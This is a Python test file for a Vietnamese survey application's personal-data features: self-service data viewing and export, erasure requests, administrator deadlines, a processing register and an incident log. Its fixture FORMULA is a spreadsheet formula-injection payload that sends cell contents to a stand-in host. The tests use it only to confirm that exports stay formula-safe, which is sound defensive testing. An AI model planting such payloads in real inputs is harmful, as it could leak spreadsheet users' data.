"""A person's own data ("Dữ liệu cá nhân của tôi"): seen, downloaded as JSON and CSV, and erased on
request end to end; requests handled by the administrator before their deadline; the register of
processing activities and the incident log, exported formula-safe. Real SQLite and PostgreSQL."""

import csv
import io
import json
from datetime import timedelta

from factories import PASSWORD, login, make_survey, submit
from openpyxl import load_workbook
from sqlalchemy import func, select

from surveys import data_subjects, people
from surveys.models import (
    Answer,
    ApiToken,
    AuditEntry,
    Consent,
    DataRequest,
    Incident,
    Participation,
    RequestKind,
    RequestStatus,
    Response,
    ResponseDraft,
    Role,
    User,
    utcnow,
)

SAID = "Đề nghị tăng phụ cấp cho cán bộ trực đêm"
FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'


def _count(session, model, *where):
    session.commit()
    return session.scalar(select(func.count()).select_from(model).where(*where))


def _held(session, world):
    """The staff member of the world: a confidential answer, an anonymous one, a draft, a token."""
    staff = world.users[Role.STAFF]
    confidential = make_survey(
        session, owner=world.A, units=[world.A], anonymity="confidential", title="Khảo sát bảo mật"
    )
    anonymous = make_survey(session, owner=world.A, units=[world.A], title="Khảo sát ẩn danh")
    submit(session, confidential, {"q1": "co", "q3": SAID}, respondent=staff)
    submit(session, anonymous, {"q1": "khong", "q3": "Điều ẩn danh không ai biết"}, respondent=staff)
    draft_survey = make_survey(session, owner=world.A, units=[world.A], title="Khảo sát đang làm dở")
    session.add(ResponseDraft(survey_id=draft_survey.id, owner_key=f"user:{staff.id}", values={"q_q3": ["nháp"]}))
    people.create_api_token(session, staff, "Ứng dụng di động")
    session.commit()
    return staff, confidential, anonymous


def test_a_person_sees_what_is_held_about_them_and_nothing_anonymous(app, world, session):
    _held(session, world)
    client = world.login_as(app.test_client(), Role.STAFF)
    page = client.get("/me/data").get_data(as_text=True)
    for said in (
        "Dữ liệu cá nhân của tôi",
        world.users[Role.STAFF].email,
        SAID,
        "Khảo sát bảo mật",
        "Khảo sát ẩn danh",
        "Khảo sát đang làm dở",
        "Ứng dụng di động",
        "Đồng ý xử lý dữ liệu cá nhân",
    ):
        assert said in page, said
    assert "Điều ẩn danh không ai biết" not in page, "an anonymous answer is joined to nobody, its author included"


def test_the_download_is_json_and_formula_safe_csv(app, world, session):
    staff, _confidential, _anonymous = _held(session, world)
    submit(
        session,
        make_survey(session, owner=world.A, units=[world.A], anonymity="identified"),
        {"q1": "co", "q3": FORMULA},
        respondent=staff,
    )
    client = world.login_as(app.test_client(), Role.STAFF)
    held = json.loads(client.get("/me/data.json").get_data(as_text=True))
    assert held["account"] == [held["account"][0]] and held["account"][0]["email"] == staff.email
    assert {
        "survey": "Khảo sát bảo mật",
        "question": "Tâm tư, nguyện vọng của anh/chị",
        "answer": SAID,
    }.items() <= next(row for row in held["responses"] if row["answer"] == SAID).items()
    assert len(held["participations"]) == 3 and len(held["consents"]) == 2 and len(held["api_tokens"]) == 1
    download = client.get("/me/data.csv")
    assert download.headers["Content-Disposition"].endswith("du-lieu-ca-nhan.csv")
    lines = list(csv.reader(io.StringIO(download.get_data(as_text=True).lstrip("\ufeff"))))
    assert lines[0] == ["Mục", "STT", "Trường", "Giá trị"]
    assert ["Tài khoản", "1", "E-mail", staff.email] in lines
    assert any(line[3] == "'" + FORMULA for line in lines), "a typed formula stays text"


def test_a_request_has_a_72_hour_deadline_and_the_administrator_sees_it_overdue(app, world, session):
    client = world.login_as(app.test_client(), Role.STAFF)
    assert client.post("/me/data", data={"kind": "access", "details": "Tôi muốn xem dữ liệu"}).status_code == 302
    filed = session.scalars(select(DataRequest)).one()
    assert filed.due_at - filed.received_at == timedelta(hours=72) and filed.status == RequestStatus.RECEIVED
    again = client.post("/me/data", data={"kind": "access"}, follow_redirects=True)
    assert "Bạn đã có một yêu cầu loại này đang được xử lý." in again.get_data(as_text=True)
    assert _count(session, DataRequest) == 1
    admin = world.login_as(app.test_client(), Role.ADMIN)
    listing = admin.get("/admin/privacy/requests").get_data(as_text=True)
    assert world.users[Role.STAFF].full_name in listing and "Xem dữ liệu" in listing and "Quá hạn" not in listing
    filed.received_at, filed.due_at = utcnow() - timedelta(hours=80), utcnow() - timedelta(hours=8)
    session.commit()
    assert "Quá hạn" in admin.get("/admin/privacy/requests").get_data(as_text=True)
    assert admin.post(f"/admin/privacy/requests/{filed.id}/refuse", data={"outcome": ""}).status_code == 302
    assert "Hãy ghi lý do từ chối" in admin.get(f"/admin/privacy/requests/{filed.id}").get_data(as_text=True)
    assert admin.post(f"/admin/privacy/requests/{filed.id}/acknowledge", data={}).status_code == 302
    assert (
        admin.post(f"/admin/privacy/requests/{filed.id}/complete", data={"outcome": "Đã gửi bản sao"}).status_code
        == 302
    )
    session.expire_all()
    assert filed.status == RequestStatus.DONE and filed.acknowledged_at and filed.outcome == "Đã gửi bản sao"
    assert "Đã hoàn thành" in client.get("/me/data").get_data(as_text=True)


def test_an_erasure_request_end_to_end(app, world, session):
    staff, _confidential, _anonymous = _held(session, world)
    email, staff_id = staff.email, staff.id
    people.update_user(
        session,
        staff,
        actor=world.users[Role.ADMIN],
        full_name="Nguyễn Văn Trực",
        email=email,
        phone="0912345678",
        unit=staff.unit,
        position="Chuyên viên",
        is_active=True,
    )
    session.commit()
    answers_before = _count(session, Answer)
    client = world.login_as(app.test_client(), Role.STAFF)
    assert client.post("/me/data", data={"kind": "erasure", "details": "Xin xóa dữ liệu của tôi"}).status_code == 302
    filed = session.scalars(select(DataRequest)).one()

    admin = world.login_as(app.test_client(), Role.ADMIN)
    assert "Xóa dữ liệu" in admin.get(f"/admin/privacy/requests/{filed.id}").get_data(as_text=True)
    assert admin.post(f"/admin/privacy/requests/{filed.id}/complete", data={"outcome": "Đã xóa"}).status_code == 302

    session.expire_all()
    assert filed.status == RequestStatus.DONE and filed.requester_name == "Nguyễn Văn Trực"
    person = session.get(User, staff_id)
    assert (person.full_name, person.email, person.phone, person.is_active) == (
        data_subjects.ERASED_NAME,
        None,
        None,
        False,
    )
    assert person.roles == [] and person.password_hash is None
    assert _count(session, Response, Response.respondent_id == staff_id) == 0
    assert _count(session, Answer) == answers_before, "the answers stay, anonymous"
    assert _count(session, Participation, Participation.user_id == staff_id) == 0
    assert _count(session, Consent, Consent.user_id == staff_id) == 0 and _count(session, Consent) == 1
    assert _count(session, ResponseDraft) == 0 and _count(session, ApiToken) == 0
    trail = " ".join(
        json.dumps(e.details, ensure_ascii=False) + (e.object_label or "") for e in session.scalars(select(AuditEntry))
    )
    assert email not in trail and "0912345678" not in trail and "Nguyễn Văn Trực" not in trail
    assert (
        session.scalars(select(AuditEntry).where(AuditEntry.action == "privacy.erase_person"))
        .one()
        .details["responses"]
        == 1
    )
    assert client.get("/me/data").status_code == 302, "the erased person's session has ended"
    assert login(app.test_client(), email, PASSWORD).status_code != 302, "and they can no longer sign in"


def test_only_administrators_handle_requests(app, world, session):
    staff = world.users[Role.STAFF]
    filed = data_subjects.file_request(session, staff, RequestKind.ERASURE)
    session.commit()
    for role in (Role.STAFF, Role.UNIT_HEAD, Role.AUTHOR):
        client = world.login_as(app.test_client(), role)
        assert client.post(f"/admin/privacy/requests/{filed.id}/complete", data={}).status_code == 403
    assert session.get(User, staff.id).is_active


def test_the_register_names_each_survey_that_keeps_who_answered_and_exports_safely(app, world, session):
    make_survey(
        session,
        owner=world.A,
        units=[world.A],
        anonymity="confidential",
        purpose=FORMULA,
        retention_days=45,
        title="Khảo sát bảo mật về chế độ",
    )
    make_survey(session, owner=world.A, units=[world.A], title="Khảo sát ẩn danh thường kỳ")
    client = world.login_as(app.test_client(), Role.ADMIN)
    page = client.get("/admin/privacy/register").get_data(as_text=True)
    assert "Sổ đăng ký hoạt động xử lý dữ liệu cá nhân" in page and "Khảo sát bảo mật về chế độ" in page
    assert "Khảo sát ẩn danh thường kỳ" not in page and "45 ngày sau khi khảo sát đóng" in page
    lines = list(
        csv.reader(io.StringIO(client.get("/admin/privacy/register.csv").get_data(as_text=True).lstrip("\ufeff")))
    )
    assert lines[0][:3] == ["Hoạt động xử lý", "Dữ liệu cá nhân", "Mục đích"]
    assert [cell for line in lines for cell in line if FORMULA in cell] == ["'" + FORMULA]
    sheet = load_workbook(io.BytesIO(client.get("/admin/privacy/register.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 1 and cells[0].data_type == "s", "a string cell, never a formula"


def test_the_incident_log_records_flags_and_exports(app, world, session):
    client = world.login_as(app.test_client(), Role.ADMIN)
    found = (utcnow() - timedelta(days=5)).astimezone().strftime("%d/%m/%Y")
    form = {
        "found_on": found,
        "description": "=1+1 tệp xuất bị gửi nhầm",
        "data_affected": "Họ tên, e-mail",
        "people_affected": "12",
        "measures": "Thu hồi tệp",
        "authority_notified_on": "",
        "people_notified_on": "",
    }
    assert client.post("/admin/privacy/incidents", data=form | {"found_on": "31/02/2026"}).status_code == 200
    assert client.post("/admin/privacy/incidents", data=form).status_code == 302
    incident = session.scalars(select(Incident)).one()
    assert incident.people_affected == 12 and incident.authority_notified_on is None
    assert "Quá hạn 72 giờ" in client.get("/admin/privacy/incidents").get_data(as_text=True)
    notified = form | {"authority_notified_on": found, "people_notified_on": found}
    assert client.post(f"/admin/privacy/incidents/{incident.id}", data=notified).status_code == 302
    assert "Quá hạn 72 giờ" not in client.get("/admin/privacy/incidents").get_data(as_text=True)
    before = form | {"authority_notified_on": "01/01/2020"}
    refused = client.post(f"/admin/privacy/incidents/{incident.id}", data=before)
    assert "Ngày thông báo không thể trước ngày phát hiện." in refused.get_data(as_text=True)
    text = client.get("/admin/privacy/incidents.csv").get_data(as_text=True).lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][:4] == [found, "'=1+1 tệp xuất bị gửi nhầm", "Họ tên, e-mail", "12"] and lines[1][5] == found
    sheet = load_workbook(io.BytesIO(client.get("/admin/privacy/incidents.xlsx").data)).active
    assert sheet.cell(2, 2).value == "=1+1 tệp xuất bị gửi nhầm" and sheet.cell(2, 2).data_type == "s"
    actions = set(session.scalars(select(AuditEntry.action)))
    assert {"privacy.incident_record", "privacy.incident_update"} <= actions


def _sign_in(page, email: str) -> None:
    page.goto("/login")
    page.fill("#login", email)
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name="Đăng nhập").click()
    page.wait_for_url("**/dashboard")


def test_in_a_browser_a_person_asks_for_erasure_and_the_administrator_completes_it(
    page, browser, live_server, world, session
):
    staff, _confidential, _anonymous = _held(session, world)
    staff_id = staff.id
    _sign_in(page, staff.email)
    page.goto("/account")
    page.get_by_role("link", name="Dữ liệu cá nhân của tôi").click()
    page.get_by_role("heading", name="Dữ liệu cá nhân của tôi", exact=True).wait_for()
    page.get_by_text(SAID).wait_for()
    page.select_option("#kind", "erasure")
    page.fill("#details", "Tôi chuyển công tác, xin xóa dữ liệu")
    page.get_by_role("button", name="Gửi yêu cầu").click()
    page.get_by_text("Đã gửi yêu cầu.").wait_for()

    admin = browser.new_context(base_url=live_server, locale="vi-VN").new_page()
    _sign_in(admin, world.users[Role.ADMIN].email)
    admin.goto("/admin")
    admin.get_by_role("link", name="Yêu cầu dữ liệu cá nhân").click()
    admin.get_by_role("link", name=staff.full_name).click()
    admin.get_by_role("button", name="Tiếp nhận").click()
    admin.get_by_text("Đã cập nhật yêu cầu.").wait_for()
    admin.fill("#outcome", "Đã xóa theo yêu cầu")
    admin.get_by_role("button", name="Hoàn thành").click()
    admin.get_by_text("Đã cập nhật yêu cầu.").wait_for()
    session.commit()  # end the read snapshot: see what the server wrote
    assert session.get(User, staff_id).full_name == data_subjects.ERASED_NAME
    assert _count(session, Response, Response.respondent_id == staff_id) == 0
    page.goto("/me/data")
    page.wait_for_url("**/login**")
